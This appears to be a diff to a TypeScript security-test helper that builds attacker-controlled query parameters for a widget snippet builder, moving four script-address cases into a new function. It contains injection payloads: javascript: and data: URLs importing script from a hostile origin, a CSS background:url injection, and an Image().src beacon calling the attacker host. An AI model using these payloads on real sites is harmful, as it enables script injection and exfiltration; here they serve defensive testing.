@@ -53,8 +53,23 @@ export async function startHostileHost(): Promise<HostileHost> {
 }
 
 const css = (url: string) => `red;background:url(${url})`;
+type Attack = [name: string, query: Record<string, string>];
+
+/** The parameter that names the script, filled by whoever has that server; it is the same for every widget. */
+export function scriptAttacks(origin: string): Attack[] {
+  return [
+    ['the address of the script', { script: `${origin}/` }],
+    [
+      'the address of the script, pinned',
+      { script: `${origin}/luxe-widgets.js`, version: 'pinned' },
+    ],
+    ['a javascript: address of the script', { script: `javascript:import('${origin}/x.js')` }],
+    ['a data: address of the script', { script: `data:text/javascript,import('${origin}/x.js')` }],
+  ];
+}
+
 /** Every parameter of the snippet builder's address, filled by whoever has that server. */
-export function attacks(origin: string): [name: string, query: Record<string, string>][] {
+export function attacks(origin: string): Attack[] {
   const everywhere = Object.fromEntries(
     elements.flatMap(({ attributes, cssProperties }) => [
       ...Object.keys(attributes).map((name) => [name, `${origin}/${name}`]),
@@ -69,13 +84,6 @@ export function attacks(origin: string): [name: string, query: Record<string, st
   const code = `javascript:void(new Image().src='${origin}/j')`;
   const inCode = Object.fromEntries(Object.keys(everywhere).map((name) => [name, code]));
   return [
-    ['the address of the script', { script: `${origin}/` }],
-    [
-      'the address of the script, pinned',
-      { script: `${origin}/luxe-widgets.js`, version: 'pinned' },
-    ],
-    ['a javascript: address of the script', { script: `javascript:import('${origin}/x.js')` }],
-    ['a data: address of the script', { script: `data:text/javascript,import('${origin}/x.js')` }],
     ['addresses and style sheets everywhere', { script: `${origin}/`, ...everywhere }],
     ['markup everywhere', { script: markup, container: markup, ...inMarkup }],
     ['javascript: addresses everywhere', { script: code, ...inCode }],
